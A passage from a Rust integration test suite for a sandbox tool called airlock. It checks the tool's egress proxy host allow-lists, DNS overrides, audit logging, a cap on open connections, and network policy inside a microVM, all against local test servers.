        Some(serde_json::json!({"allow": ["other.test:80"], "dns_override": overrides})),
    );
    assert_eq!(s, 204, "{b}");
    assert!(fetch("other.test/svc-3").starts_with("hello from other path=/svc-3"));
    assert!(fetch("www.allowed.test/svc-4").contains("www.allowed.test:80 is not allowed"));
    // Bad input, and a sandbox without a network.
    for bad in [
        serde_json::json!({"allow": ["a.*.test"]}),
        serde_json::json!({"allow": ["x.test"], "dns_override": ["x.test=127.1"]}),
        serde_json::json!("none"),
        serde_json::json!({"alow": ["x.test"]}),
    ] {
        let (s, b) = d.req(
            "PUT",
            &format!("/v1/sandboxes/{id}/network"),
            Some(bad.clone()),
        );
        assert!(s == 400 || s == 422, "{bad}: {s} {b}");
    }
    let (s, v) = d.req("POST", "/v1/sandboxes", Some(serde_json::json!({})));
    assert_eq!(s, 201, "{v}");
    let plain = serde_json::from_str::<serde_json::Value>(&v).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (s, b) = d.req(
        "PUT",
        &format!("/v1/sandboxes/{plain}/network"),
        Some(serde_json::json!({"allow": ["www.allowed.test"]})),
    );
    assert_eq!(s, 409, "{b}");
    // The audit: four decisions, with what was decided and why.
    let (s, b) = d.req("GET", &format!("/v1/sandboxes/{id}/audit"), None);
    assert_eq!(s, 200, "{b}");
    let rows: Vec<serde_json::Value> = serde_json::from_str(&b).unwrap();
    let net_rows: Vec<&serde_json::Value> = rows
        .iter()
        .filter(|r| r["kind"] == "net")
        .map(|r| &r["detail"])
        .collect();
    assert_eq!(net_rows.len(), 4, "{b}");
    let find = |host: &str, allowed: bool| {
        net_rows
            .iter()
            .filter(|r| r["host"] == host && r["allowed"] == allowed)
            .count()
    };
    assert_eq!(find("www.allowed.test", true), 1, "{b}");
    assert_eq!(find("other.test", false), 1, "{b}");
    assert_eq!(find("other.test", true), 1, "{b}");
    assert_eq!(find("www.allowed.test", false), 1, "{b}");
    let ok = net_rows
        .iter()
        .find(|r| r["allowed"] == true && r["host"] == "www.allowed.test")
        .unwrap();
    assert_eq!(ok["addr"], WWW, "{ok}");
    assert_eq!(ok["port"], 80);
    assert!(ok["bytes_in"].as_u64().unwrap() > 30, "{ok}");
    assert!(ok["bytes_out"].as_u64().unwrap() > 30, "{ok}");
    assert!(rows.iter().any(|r| r["kind"] == "net-policy"), "{b}");
    let log = net.log();
    assert!(!log.contains("svc-2") && !log.contains("svc-4"), "{log}");
    // The CLI: a sandbox with a policy, and its audit.
    let cli = |args: &[&str]| {
        let o = Command::new(common::bin())
            .env("AIRLOCK_SOCKET", d.dir.path().join("airlock.sock"))
            .args(args)
            .output()
            .unwrap();
        assert!(o.status.success(), "{args:?}: {o:?}");
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    let over = format!("other.test={OTHER}");
    let id2 = cli(&[
        "create",
        "-q",
        "--allow-host",
        "other.test",
        "--dns-override",
        &over,
    ]);
    assert!(d
        .exec(
            &id2,
            &["curl", "-sS", "-m", "10", "http://other.test/cli-1"]
        )
        .starts_with("hello from other path=/cli-1"));
    // A server that never answers nor closes: once the client in the
    // sandbox gives up, the proxy's threads for it end.
    let threads = || {
        std::fs::read_dir(format!("/proc/{}/task", d.child.id()))
            .unwrap()
            .flatten()
            .filter(|t| {
                std::fs::read_to_string(t.path().join("comm"))
                    .is_ok_and(|c| c.starts_with("airlock-egress"))
            })
            .count()
    };
    let out = d.exec(
        &id2,
        &[
            "sh",
            "-c",
            "curl -sS -m 2 http://other.test:8000/held 2>&1; echo rc=$?",
        ],
    );
    assert!(out.contains("rc=28"), "{out}");
    let t = Instant::now();
    while threads() > 0 {
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "{} proxy threads left",
            threads()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let audit = cli(&["logs", "--audit", &id2]);
    assert!(
        audit.lines().any(|l| l.contains(r#""kind":"net""#)
            && l.contains(r#""host":"other.test""#)
            && l.contains(r#""allowed":true"#)),
        "{audit}"
    );
}

/// A sandbox that opens connection after connection to the proxy and
/// never sends a request holds at most 256 of them on the host (each is a
/// thread there); the rest are closed at once.
#[test]
fn open_streams_are_capped() {
    let Some(net) = Inet::new() else { return };
    let code = r#"
import socket, select, time
socks = []
for i in range(300):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    socks.append(s)
time.sleep(2)
closed = 0
for s in socks:
    r, _, _ = select.select([s], [], [], 0)
    if r and s.recv(1) == b'':
        closed += 1
print('closed', closed)
"#;
    let Some((o, took)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--allow-host",
            "www.allowed.test",
            "--",
            "/usr/bin/python3",
            "-c",
            code,
        ],
    ) else {
        return;
    };
    assert_eq!(o.stdout, "closed 44\n", "{o:?}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

/// The microVM tier under the same policy: the guest has no NIC, and
/// its one way out is the agent's tunnel to the host's proxy. An allowed
/// name is reached (over HTTP and, through CONNECT, HTTPS), another is
/// refused by the proxy with its reason, and the server never sees it.
#[test]
fn allowed_names_work_from_a_microvm() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    let script = r#"
uname -r
curl -sS -m 60 http://www.allowed.test/ok-vm
curl -sS -m 60 --cacert /certs/ca.pem https://www.allowed.test/ok-vm-tls
code=$(curl -sS -m 60 -o /tmp/denied -w '%{http_code}' http://other.test/denied-vm)
echo "denied-code=$code"
cat /tmp/denied
"#;
    let Some(inner) = common::airlock(Who::Root) else {
        return;
    };
    let mut c = Command::new("ip");
    c.args(["netns", "exec", &net.ns])
        .arg(inner.get_program())
        .args(inner.get_args())
        .args([
            "run",
            "--isolation",
            "microvm",
            "--allow-host",
            "www.allowed.test",
            "--dns-override",
            &format!("www.allowed.test={WWW}"),
            "--dns-override",
            &format!("other.test={OTHER}"),
            "--mount",
            &certs,
            "--",
            "sh",
            "-c",
            script,
        ])
        .env_clear()
        .current_dir("/")
        .stdin(Stdio::null());
    for (k, v) in inner.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    // A first microVM run may have to make the template (minutes under
    // TCG on a busy host).
    let (o, _) = bounded(c, Duration::from_secs(600));
    assert_eq!(o.code, 0, "{o:?}");
    let s = &o.stdout;
    assert!(
        s.lines().next().unwrap_or("").ends_with("-cloud-amd64"),
        "{o:?}"
    );
    assert!(s.contains("hello from www path=/ok-vm\n"), "{o:?}");
    assert!(s.contains("hello from www-tls path=/ok-vm-tls\n"), "{o:?}");
    assert!(s.contains("denied-code=403"), "{o:?}");
    assert!(
        s.contains("airlock egress: other.test:80 is not allowed"),
        "{o:?}"
    );
    let log = net.log();
    assert!(!log.contains("other"), "a denied host was reached: {log}");
    assert!(
        log.contains("www GET /ok-vm host=www.allowed.test"),
        "{log}"
    );
}
